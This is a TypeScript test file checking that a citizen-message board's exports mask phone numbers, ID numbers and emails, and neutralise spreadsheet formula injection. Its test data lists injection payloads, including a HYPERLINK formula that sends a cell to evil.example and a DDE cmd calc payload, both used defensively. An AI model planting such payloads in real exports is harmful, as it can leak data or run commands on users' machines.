import {mkdtempSync, rmSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {parse} from 'csv-parse/sync'
import fc from 'fast-check'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'

import {redactPersonalData} from '../../src/domain/redact.js'
import {safeCell} from '../../src/export/csv-cell.js'
import {importFiles} from '../../src/import/import-service.js'
import {openStore} from '../../src/store/open.js'
import type {Store} from '../../src/store/store.js'
import {backendList} from '../helpers/backends.js'
import {runCommand} from '../helpers/run-command.js'

const HOSTILE_TITLES = [
  '=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1',
  '  =1+1', '＝1+1', '＋SUM(1)',
]
const PERSONAL = ['13812345678', '139 8765 4321', '+86-137-1111-2222', '43010219900101123X', 'zhang.san@example.com', '１３６１２３４５６７８', '0731-84567890']

describe('redaction and formula neutralising (pure)', () => {
  it('masks every mobile number however it is spaced', async () => {
    fc.assert(
      fc.property(fc.constantFrom('3', '5', '7', '8', '9'), fc.stringMatching(/^[0-9]{9}$/), fc.constantFrom('', ' ', '-'), fc.string(), (second, rest, sep, around) => {
        const phone = `1${second}${rest.slice(0, 1)}${sep}${rest.slice(1, 5)}${sep}${rest.slice(5)}`
        const out = redactPersonalData(`联系${phone}谢谢${around.replace(/[0-9]/g, '')}`).text
        expect(out.replace(/[\s-]/g, '')).not.toContain(phone.replace(/[\s-]/g, ''))
        expect(out).toContain('****')
      }),
    )
  })

  it('masks ID numbers and emails, leaves other numbers alone', async () => {
    expect(redactPersonalData('身份证43010219900101123X').text).toBe('身份证430*************3X')
    expect(redactPersonalData('邮箱 zhang.san@example.com。').text).toBe('邮箱 z***@example.com。')
    expect(redactPersonalData('订单号123456789012345678901，面积120平方米').masked).toBe(0)
  })

  it('no cell a spreadsheet would evaluate survives', async () => {
    for (const t of HOSTILE_TITLES) expect(safeCell(t).startsWith("'"), JSON.stringify(t)).toBe(true)
    expect(safeCell('市民来信')).toBe('市民来信')
    expect(safeCell(-3)).toBe('-3')
  })
})

describe.each(backendList)('board export with hostile input ($name)', (backend) => {
  let store: Store
  let location: string
  let dir: string
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'board-export-'))
    const rows = HOSTILE_TITLES.map((t, i) => [String(1000 + i), `A${i}`, t, '2019-05-0' + ((i % 9) + 1) + ' 10:00:00', `请联系我 ${PERSONAL[i % PERSONAL.length]} 处理`])
    const csv = '留言编号,留言用户,留言主题,留言时间,留言详情\n' + rows.map((r) => r.map((c) => `"${c.replace(/"/g, '""')}"`).join(',')).join('\n') + '\n'
    writeFileSync(join(dir, 'hostile.csv'), csv)
    location = await backend.location()
    store = await openStore(location, {now: new Date('2024-01-01T00:00:00Z')})
    const r = await importFiles(store, {
      files: [join(dir, 'hostile.csv')], source: 'hostile', tz: 'Asia/Shanghai', format: 'csv', rejectsPath: join(dir, 'rejects.csv'),
      dryRun: false, actor: 'test', now: () => new Date('2024-01-01T00:00:00Z'),
    })
    expect(r.files[0].inserted).toBe(HOSTILE_TITLES.length)
  }, 60_000)
  afterAll(async () => {
    await store?.close()
    await backend.cleanup()
    rmSync(dir, {recursive: true, force: true})
  })

  it('CSV: no formula cells, personal data masked', async () => {
    const r = await runCommand(['export'], {store: location})
    expect(r.status, r.stderr).toBe(0)
    const cells = (parse(r.stdout, {bom: true, relax_column_count: false}) as string[][]).slice(1)
    expect(cells).toHaveLength(HOSTILE_TITLES.length)
    for (const cell of cells.flat()) expect(cell, cell).not.toMatch(/^[\s\u3000]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D]/)
    for (const p of PERSONAL) expect(r.stdout).not.toContain(p)
    expect(r.stdout).toContain('138****5678')
  })

  it('--no-redact keeps the data and leaves an audit event; JSON and Open311 are redacted by default', async () => {
    const json = await runCommand(['export', '--format', 'json'], {store: location})
    for (const p of PERSONAL) expect(json.stdout).not.toContain(p)
    expect(JSON.parse(json.stdout)).toHaveLength(HOSTILE_TITLES.length)
    expect(await store.events.recent({limit: 5, action: 'export.unredacted'})).toHaveLength(0)
    const raw = await runCommand(['export', '--format', 'json', '--no-redact'], {store: location, env: {BOARD_ACTOR: 'admin-li', BOARD_NOW: '2024-02-01T00:00:00Z'}})
    expect(raw.stdout).toContain('43010219900101123X')
    const events = await store.events.recent({limit: 5, action: 'export.unredacted'})
    expect(events).toHaveLength(1)
    expect(events[0]).toMatchObject({caseId: null, actor: 'admin-li', at: '2024-02-01T00:00:00.000Z'})
  })

  it('Open311: GeoReport v2 fields, expected_datetime from the resolve deadline', async () => {
    const c = (await store.cases.getByRef('hostile', '1000'))!
    await store.cases.change(c.id, {resolveDueAt: '2019-05-20T09:30:00.000Z'}, {actor: 'test', now: new Date('2024-01-01T00:00:00Z'), action: 'sla'})
    const r = await runCommand(['export', '--format', 'open311'], {store: location, env: {BOARD_TZ: 'Asia/Shanghai'}})
    expect(r.status, r.stderr).toBe(0)
    const reqs = JSON.parse(r.stdout) as Record<string, unknown>[]
    const req = reqs.find((x) => x.service_request_id === '1000')!
    expect(req).toMatchObject({status: 'open', requested_datetime: '2019-05-01T10:00:00+08:00', expected_datetime: '2019-05-20T17:30:00+08:00'})
    for (const k of ['service_name', 'description', 'agency_responsible', 'address', 'lat', 'long', 'updated_datetime']) expect(req).toHaveProperty(k)
    for (const p of PERSONAL) expect(r.stdout).not.toContain(p)
  })
})
